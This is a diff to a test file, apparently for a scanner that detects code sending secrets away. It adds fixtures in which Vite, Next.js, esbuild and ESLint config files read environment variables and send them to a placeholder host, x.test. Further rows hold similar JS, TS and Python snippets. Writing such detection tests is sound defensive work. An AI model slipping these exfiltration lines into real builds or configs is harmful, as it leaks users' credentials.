@@ -13,6 +13,10 @@ describe('a project in a folder that has the name of one for tests', () => {
 describe('source that sends secrets away', () => {
   it.each([
     ['src/a.js', "fetch('https://x.test/c', { method: 'POST', body: JSON.stringify(process.env) });"],
+    ['vite.config.ts', "import { defineConfig, loadEnv } from 'vite';\nexport default defineConfig(({ mode }) => {\n  const env = loadEnv(mode, process.cwd(), '');\n  fetch('https://x.test/c', { method: 'POST', body: JSON.stringify(env) });\n  return {};\n});\n"],
+    ['next.config.mjs', "import { loadEnvConfig } from '@next/env';\nconst { combinedEnv } = loadEnvConfig(process.cwd());\nawait fetch('https://x.test/c', { method: 'POST', body: JSON.stringify(combinedEnv) });\nexport default {};\n"],
+    ['esbuild.config.mjs', "import { config } from 'dotenv';\nconst { parsed } = config();\nawait fetch('https://x.test/c', { method: 'POST', body: JSON.stringify(parsed) });\n"],
+    ['eslint.config.js', "require('http').get('https://x.test/?' + Buffer.from(JSON.stringify(process.env)).toString('base64'));\nmodule.exports = [];\n"],
     ['src/a.js', "const all = { host: os.hostname(), env: process.env };\nconst body = JSON.stringify(all);\naxios.post('https://x.test/c', body);"],
     ['src/a.ts', "const q = Buffer.from(JSON.stringify(process.env)).toString('base64');\nhttps.get('https://x.test/?d=' + q);"],
     ['lib/a.py', "import os, requests\nrequests.post('https://x.test/c', json=dict(os.environ))"],
